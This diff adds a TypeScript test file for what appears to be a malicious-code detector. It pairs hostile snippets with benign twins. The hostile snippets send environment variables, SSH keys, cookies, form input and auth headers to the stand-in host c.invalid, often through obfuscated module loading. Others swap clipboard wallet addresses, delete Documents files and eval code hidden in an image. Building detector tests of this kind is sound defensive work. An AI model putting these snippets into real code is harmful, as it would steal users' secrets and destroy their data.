@@ -1,0 +1,147 @@
+import { testDeeds, type Deed } from './deeds.ts'
+
+const SEND = `fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(process.env) })`
+const KEY = `require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')`
+const MADE = `['s', 'p', 't', 't', 'h'].reverse().join('')`
+
+/** A module whose name is worked out, and that is asked for by a loader under another name. */
+const LOADERS: readonly Deed[] = (
+  [
+    ['the platform', `process.getBuiltinModule(N)`],
+    ['Reflect', `Reflect.apply(require, null, [N])`],
+    ['a call of the loader', `require.call(module, N)`],
+    ['a list of arguments', `require.apply(module, [N])`],
+    ['a loader that is made', `require('module').createRequire(__filename)(N)`],
+    ['another name', `load(N)`],
+    ['the main module', `process.mainModule.require(N)`],
+    ['the class of modules', `module.constructor._load(N)`],
+  ] as const
+).map(([name, loads]) => ({
+  name: `a client whose name is worked out and that is loaded by ${name}`,
+  check: 'secrets-exfiltration',
+  code: `const load = require, N = ${MADE}; ${loads}.request('https://c.invalid/').end(JSON.stringify(process.env))`,
+  twin: `const load = require, N = ['h', 't', 'a', 'p'].reverse().join(''); console.log(${loads}.join('a', process.env.HOME))`,
+}))
+
+/** Who is called by a connection is called on it. */
+const CONNECTIONS: readonly Deed[] = [
+  {
+    name: 'secrets that are written by whoever a connection calls on itself',
+    check: 'secrets-exfiltration',
+    code: `require('tls').connect({ host: 'c.invalid', port: 443 }, function () { this.write(JSON.stringify(process.env)) })`,
+    twin: `require('tls').connect({ host: 'c.invalid', port: 443 }, function () { this.write(process.version) })`,
+  },
+  {
+    name: 'secrets that are sent by a handler of a socket on itself',
+    check: 'secrets-exfiltration',
+    code: `new WebSocket('wss://c.invalid').onopen = function () { this.send(${KEY}) }`,
+    twin: `new WebSocket('wss://c.invalid').onopen = function () { this.send('hello') }`,
+  },
+  {
+    name: 'a key that is put on another machine',
+    check: 'secrets-exfiltration',
+    code: `const c = new (require('ssh2').Client)(); c.on('ready', () => c.sftp((e, s) => s.writeFile('/tmp/k', ${KEY}))); c.connect({ host: 'c.invalid' })`,
+    twin: `const c = new (require('ssh2').Client)(); c.on('ready', () => c.sftp((e, s) => s.writeFile('/tmp/k', 'x'))); c.connect({ host: 'c.invalid' })`,
+  },
+  {
+    name: 'keys of services that leave in a datagram',
+    check: 'secrets-exfiltration',
+    code: `const s = require('dgram').createSocket('udp4'); s.send(process.env.NPM_TOKEN + process.env.GITHUB_TOKEN, 53, 'c.invalid')`,
+    twin: `const s = require('dgram').createSocket('udp4'); s.send('up', 8125, process.env.STATSD_HOST)`,
+  },
+  {
+    name: 'a worker out of an address that holds encoded code',
+    check: 'secrets-exfiltration',
+    code: `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent("${SEND.replaceAll('"', '')}")))`,
+    twin: `new (require('worker_threads').Worker)(new URL('data:text/javascript,' + encodeURIComponent("console.log(1)")))`,
+  },
+]
+
+const TYPED = `new URLSearchParams(new FormData(e.target))`
+
+/** What a page shows, keeps and is told. */
+const PAGES: readonly Deed[] = [
+  {
+    name: 'what is typed into any form of a page goes to a host of its own',
+    check: 'spying',
+    code: `document.addEventListener('submit', (e) => { fetch('https://c.invalid/f', { method: 'POST', body: ${TYPED} }) }, true)`,
+    twin: `document.addEventListener('submit', (e) => { fetch(e.target.action, { method: 'POST', body: ${TYPED} }) }, true)`,
+  },
+  {
+    name: 'a password that leaves in the address of a script',
+    check: 'spying',
+    code: `document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('change', () => { const s = document.createElement('script'); s.src = 'https://c.invalid/?p=' + i.value }))`,
+    twin: `document.querySelectorAll('input[type=password]').forEach((i) => i.addEventListener('change', () => { const s = document.createElement('script'); s.src = 'https://c.invalid/strength.js' }))`,
+  },
+  {
+    name: 'the address of a wallet that is put into what is copied',
+    check: 'spying',
+    code: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', '0x${'2'.repeat(40)}'); e.preventDefault() })`,
+    twin: `document.addEventListener('copy', (e) => { e.clipboardData.setData('text/plain', String(getSelection()).trim()); e.preventDefault() })`,
+  },
+  {
+    name: 'the cookies of all sites that go to a host of its own',
+    check: 'secrets-exfiltration',
+    code: `chrome.cookies.getAll({}, (c) => fetch('https://c.invalid/c', { method: 'POST', body: JSON.stringify(c) }))`,
+    twin: `chrome.cookies.getAll({ url: location.href }, (c) => console.log(c.length))`,
+  },
+  {
+    name: 'cookies that leave in the address of a picture, whose host is worked out',
+    check: 'secrets-exfiltration',
+    code: `new Image().src = '68747470733a2f2f632e696e76616c69642f'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('') + document.cookie`,
+    twin: `new Image().src = '68747470733a2f2f632e696e76616c69642f'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('')`,
+  },
+]
+
+/** Who stands in the place of what other code calls. */
+const HOOKS: readonly Deed[] = [
+  {
+    name: 'whoever ends a request tells somebody else what it says',
+    check: 'spying',
+    code: `const h = require('http'), end = h.ClientRequest.prototype.end; h.ClientRequest.prototype.end = function (d) { fetch('https://c.invalid/', { method: 'POST', body: this.getHeader('authorization') }); return end.apply(this, arguments) }`,
+    twin: `const h = require('http'), end = h.ClientRequest.prototype.end; let n = 0; h.ClientRequest.prototype.end = function (d) { n += 1; return end.apply(this, arguments) }`,
+  },
+  {
+    name: 'whoever loads a client gets one that tells somebody else what is asked',
+    check: 'spying',
+    code: `const M = require('module'), load = M.prototype.require; M.prototype.require = function (id) { const m = load.apply(this, arguments), r = m.request; m.request = function (o) { fetch('https://c.invalid/', { method: 'POST', body: JSON.stringify(o) }); return r.apply(this, arguments) }; return m }`,
+    twin: `const M = require('module'), load = M.prototype.require; M.prototype.require = function (id) { console.time(id); return load.apply(this, arguments) }`,
+  },
+  {
+    name: 'what an account has of its own is locked away, file by file',
+    check: 'destruction',
+    code: `const fs = require('fs'), d = require('path').join(require('os').homedir(), 'Documents'); for (const n of fs.readdirSync(d)) { fs.writeFileSync(require('path').join(d, n) + '.x', 'x'); fs.unlinkSync(require('path').join(d, n)) }`,
+    twin: `const fs = require('fs'), d = require('path').join(require('os').homedir(), 'Documents'); for (const n of fs.readdirSync(d)) console.log(fs.statSync(require('path').join(d, n)).size)`,
+  },
+]
+
+/** Texts out of what stands in for an object, and code out of files that a loader of another name opens. */
+const TEXTS: readonly Deed[] = [
+  {
+    name: 'names out of a stand-in',
+    check: 'secrets-exfiltration',
+    code: `const P = new Proxy({}, { get: (t, k) => [...k].reverse().join('') }); require(P.sptth).request('https://c.invalid/').end(JSON.stringify(process.env))`,
+    twin: `const P = new Proxy({}, { get: (t, k) => [...k].reverse().join('') }); require(P.htap).join(String(process.env.HOME), 'x')`,
+  },
+  {
+    name: 'a text that is cut from its end',
+    check: 'secrets-exfiltration',
+    code: `require('xhttpsyy'.slice(1, -2)).request('https://c.invalid/').end(JSON.stringify(process.env))`,
+    twin: `require('xpathyy'.slice(1, -2)).join(String(process.env.HOME), 'x')`,
+  },
+  {
+    name: 'code behind a mark in a picture that a loader of the platform opens',
+    check: 'secrets-exfiltration',
+    code: `const b = process.getBuiltinModule('fs').readFileSync(process.getBuiltinModule('path').join(__dirname, 'a.png')); eval(b.subarray(b.indexOf('##') + 2).toString())`,
+    twin: `const b = process.getBuiltinModule('fs').readFileSync(process.getBuiltinModule('path').join(__dirname, 'a.png')); console.log(b.length, process.env.HOME)`,
+    files: { 'a.png': `PNG##${SEND}` },
+  },
+  {
+    name: 'decoded code that a timer runs as text',
+    check: 'decode-and-execute',
+    code: `setTimeout(require('zlib').inflateSync(Buffer.from('${'QUJDREVGR0g='.repeat(9)}', 'base64')).toString(), 1)`,
+    twin: `setTimeout(() => console.log(Buffer.from('QUJD', 'base64')), 1)`,
+  },
+]
+
+testDeeds([...LOADERS, ...CONNECTIONS, ...PAGES, ...HOOKS, ...TEXTS])
